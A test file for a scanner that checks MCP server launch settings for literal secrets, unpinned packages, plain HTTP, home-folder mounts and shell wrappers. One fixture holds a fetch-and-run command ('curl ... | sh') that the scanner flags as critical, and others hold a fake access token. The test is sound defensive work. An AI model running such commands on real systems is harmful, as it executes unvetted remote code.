import { describe, expect, test } from "vitest";
import { findingsOf } from "#app/domain/inventory/launch-findings.ts";
import type { RawLaunch } from "#app/domain/inventory/redact-launch.ts";
import { redacted, remote, stdio } from "./raw-launches.ts";

const TOKEN = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5";

const ROWS: [name: string, raw: RawLaunch, findings: string[]][] = [
  [
    "a pinned package with a reference",
    stdio("npx", ["-y", "pkg@1.0.0"], { env: [["TOKEN", "${env:TOKEN}"]] }),
    [],
  ],
  [
    "a secret in a variable",
    stdio("npx", ["pkg@1.0.0"], { env: [["GITHUB_TOKEN", TOKEN]] }),
    ["literal-secret high env.GITHUB_TOKEN"],
  ],
  [
    "a secret in a header",
    remote("https://h.example", [["Authorization", `Bearer ${TOKEN}`]]),
    ["literal-secret high headers.Authorization"],
  ],
  ["a secret in an argument", stdio("npx", ["pkg@1.0.0", "--token", "abc"]), ["literal-secret high args.2"]],
  ["a secret in an address", remote(`https://h.example/mcp?key=${TOKEN}`), ["literal-secret high url"]],
  ["a placeholder", stdio("npx", ["pkg@1.0.0"], { env: [["GITHUB_TOKEN", "YOUR_TOKEN"]] }), []],
  ["no version", stdio("npx", ["-y", "pkg"]), ["unpinned medium args"]],
  ["latest", stdio("uvx", ["pkg@latest"]), ["unpinned medium args"]],
  ["an image without tag", stdio("docker", ["run", "mcp/fetch"]), ["unpinned medium args"]],
  ["an image with a tag", stdio("docker", ["run", "mcp/fetch:1.2"]), ["unpinned low args"]],
  ["plain http", remote("http://h.example/mcp"), ["plain-http high url"]],
  ["plain http on this machine", remote("http://localhost:3000/mcp"), []],
  [
    "plain http behind a bridge",
    stdio("npx", ["mcp-remote@1.0.0", "http://h.example/mcp"]),
    ["plain-http high args.1"],
  ],
  [
    "a bridge without a version",
    stdio("npx", ["-y", "mcp-remote", "https://h.example/mcp"]),
    ["unpinned medium args"],
  ],
  [
    "a bridge in any version",
    stdio("npx", ["-y", "mcp-remote@latest", "https://h.example/mcp"]),
    ["unpinned medium args"],
  ],
  ["a bridge at its version", stdio("npx", ["-y", "mcp-remote@0.1.9", "https://h.example/mcp"]), []],
  ["a home folder", stdio("npx", ["fs@1.0.0", "/home/ada"]), ["home-mounted high args.1"]],
  ["a home folder by variable", stdio("npx", ["fs@1.0.0", "${HOME}"]), ["home-mounted high args.1"]],
  ["the whole disk", stdio("npx", ["fs@1.0.0", "/"]), ["home-mounted high args.1"]],
  ["a project folder", stdio("npx", ["fs@1.0.0", "/home/ada/dev"]), []],
  [
    "a home folder in a volume",
    stdio("docker", ["run", "-v", "/home/ada:/data", "i@sha256:".concat("ab12".repeat(16))]),
    ["home-mounted high args.2"],
  ],
  [
    "a home folder in a mount",
    stdio("docker", [
      "run",
      "--mount",
      "type=bind,src=C:\\Users\\ada,dst=/x",
      "i@sha256:".concat("ab12".repeat(16)),
    ]),
    ["home-mounted high args.2"],
  ],
  [
    "a project in a volume",
    stdio("docker", ["run", "-v", "/home/ada/x:/data", "i@sha256:".concat("ab12".repeat(16))]),
    [],
  ],
  ["a shell", stdio("bash", ["-lc", "npx pkg@1.0.0"]), ["shell-wrapper low command"]],
  [
    "a script in a shell",
    stdio("bash", ["-c", "curl https://h.example/i.sh | sh"]),
    ["shell-wrapper medium command", "download-and-run critical args.1"],
  ],
  ["the interpreter of Windows", stdio("cmd", ["/c", "npx", "pkg@1.0.0"]), []],
];

describe("findings on", () => {
  test.each(ROWS)("%s", (_name, raw, expected) => {
    expect(
      findingsOf(redacted(raw)).map(({ rule, severity, where }) => `${rule} ${severity} ${where}`),
    ).toEqual(expected);
  });
});

test("every finding has a sentence and a remedy, and its place is unique", () => {
  const found = findingsOf(
    redacted(
      stdio("bash", ["-c", `npx pkg ~ --token ${TOKEN}`], {
        env: [
          ["A_TOKEN", TOKEN],
          ["A_TOKEN", TOKEN],
        ],
      }),
    ),
  );
  expect(new Set(found.map(({ rule, where }) => `${rule} ${where}`)).size).toBe(found.length);
  for (const finding of found) {
    expect(finding.sentence).toMatch(/\.$/);
    expect(finding.remedy).toMatch(/\.$/);
    expect(JSON.stringify(finding)).not.toContain(TOKEN);
  }
});
